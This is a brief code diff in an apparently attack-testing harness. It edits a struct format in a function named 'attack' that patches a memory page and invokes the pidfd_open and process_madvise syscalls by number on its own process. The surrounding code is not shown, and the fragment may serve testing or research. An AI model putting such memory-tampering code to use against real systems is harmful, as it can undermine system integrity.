@@ -11,6 +11,6 @@ import struct
 
 def attack(at):
     page, original, offset = at.patched_page()
-    piece = struct.pack('PN', page, 4096)
+    piece = struct.pack('PL', page, 4096)
     at.syscall(440, at.syscall(434, os.getpid(), 0), piece, 1, 4, 0)
     return at.restored(page, original)
